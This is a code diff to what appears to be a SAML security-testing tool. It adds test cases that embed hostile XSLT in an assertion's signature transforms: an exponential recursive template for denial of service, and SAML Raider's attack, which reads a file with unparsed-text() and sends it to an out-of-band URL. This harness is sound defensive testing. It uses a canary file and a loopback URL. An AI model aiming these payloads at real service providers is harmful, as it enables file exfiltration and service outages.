@@ -241,19 +241,67 @@ def _quadratic(size: int, count: int) -> Fault:
     return Fault("", "", tree=_probe_attribute(value), bytes_=b)
 
 
-def _xslt_dos(root: etree._Element, ctx: FaultContext) -> None:
-    transforms = _iter_tag(_asig(root), q(DS, "Transforms"))[0]
+def _recursive_stylesheet(transforms: etree._Element, n: int, probe_url: str | None = None) -> None:
+    """Oblique's exponential template: `d` calls itself twice with n-1 (2^n calls). With `probe_url`,
+    each call at n=0 also reads that URL with document(): an SP that runs the transform fetches it."""
     t = etree.SubElement(transforms, q(DS, "Transform"), Algorithm=XSLT_TRANSFORM)
     ss = etree.SubElement(t, q(XSLT_NS, "stylesheet"), nsmap={"xsl": XSLT_NS}, version="1.0")
     main = etree.SubElement(ss, q(XSLT_NS, "template"), match="/")
     call = etree.SubElement(main, q(XSLT_NS, "call-template"), name="d")
-    etree.SubElement(call, q(XSLT_NS, "with-param"), name="n", select="27")
+    etree.SubElement(call, q(XSLT_NS, "with-param"), name="n", select=str(n))
     d = etree.SubElement(ss, q(XSLT_NS, "template"), name="d")
     etree.SubElement(d, q(XSLT_NS, "param"), name="n")
-    when = etree.SubElement(etree.SubElement(d, q(XSLT_NS, "choose")), q(XSLT_NS, "when"), test="$n > 0")
+    choose = etree.SubElement(d, q(XSLT_NS, "choose"))
+    when = etree.SubElement(choose, q(XSLT_NS, "when"), test="$n > 0")
     for _ in range(2):
         c = etree.SubElement(when, q(XSLT_NS, "call-template"), name="d")
         etree.SubElement(c, q(XSLT_NS, "with-param"), name="n", select="$n - 1")
+    if probe_url:
+        other = etree.SubElement(choose, q(XSLT_NS, "otherwise"))
+        etree.SubElement(other, q(XSLT_NS, "copy-of"), select=f"document('{probe_url}')")
+
+
+def _xslt_dos(root: etree._Element, ctx: FaultContext) -> None:
+    _recursive_stylesheet(_iter_tag(_asig(root), q(DS, "Transforms"))[0], 27)
+
+
+@register_factory("xslt-recursive-probe",
+                  "The exponential XSLT template of xslt-dos at a harmless depth n (2^n calls), each leaf reading a "
+                  "loopback URL the IdP watches with document(): shows whether the SP runs the transform at all",
+                  ("XML-09",), n=4)
+def _xslt_probe(n: int) -> Fault:
+    def signed(root: etree._Element, ctx: FaultContext) -> None:
+        url = ctx.idp.oob_url(ctx.notes.setdefault("oob_token", secrets.token_hex(8)), "xslt")
+        ctx.notes["oob_url"] = url
+        _recursive_stylesheet(_iter_tag(_asig(root), q(DS, "Transforms"))[0], min(max(n, 0), 8), url)
+
+    return Fault("", "", signing=_assertion_signed(), signed=signed)
+
+
+def _xslt_saml_raider(root: etree._Element, ctx: FaultContext) -> None:
+    """SAML Raider's XSLT attack: a ds:Transform (no Algorithm) holding an XSLT 2.0 stylesheet that
+    reads a file with unparsed-text() and requests attacker URL + the file's text, appended to the
+    first ds:Transforms of the document. The file is a canary on this machine, not /etc/passwd."""
+    token = ctx.notes.setdefault("oob_token", secrets.token_hex(8))
+    url = ctx.idp.oob_url(token, "xslt") + "?d="
+    ctx.notes["oob_url"] = url
+    canary = _canary_file(ctx, "samlconf-xslt-canary-" + token)
+    transforms = _iter_tag(root, q(DS, "Transforms"))
+    if not transforms:
+        raise ValueError("xslt-saml-raider needs a signature")
+    t = etree.SubElement(transforms[0], q(DS, "Transform"))
+    ss = etree.SubElement(t, q(XSLT_NS, "stylesheet"), nsmap={"xsl": XSLT_NS})
+    tpl = etree.SubElement(ss, q(XSLT_NS, "template"), match="doc")
+    for name, select in (("file", f"unparsed-text('{canary}')"), ("escaped", "encode-for-uri($file)"),
+                         ("attackerUrl", f"'{url}'"), ("exploitUrl", "concat($attackerUrl,$escaped)")):
+        etree.SubElement(tpl, q(XSLT_NS, "variable"), name=name, select=select)
+    etree.SubElement(tpl, q(XSLT_NS, "value-of"), select="unparsed-text($exploitUrl)")
+
+
+register(Fault("xslt-saml-raider",
+               "SAML Raider's XSLT attack: an XSLT 2.0 stylesheet (unparsed-text of a canary file, sent to a watched "
+               "loopback URL) in a ds:Transform appended to the document's first ds:Transforms, after signing",
+               ("XML-08", "SAML Raider XSLT attack"), signed=_xslt_saml_raider))
 
 
 register(Fault("xslt-dos", "An XSLT Transform with an exponential recursive template (2^27 calls) in the Assertion signature",
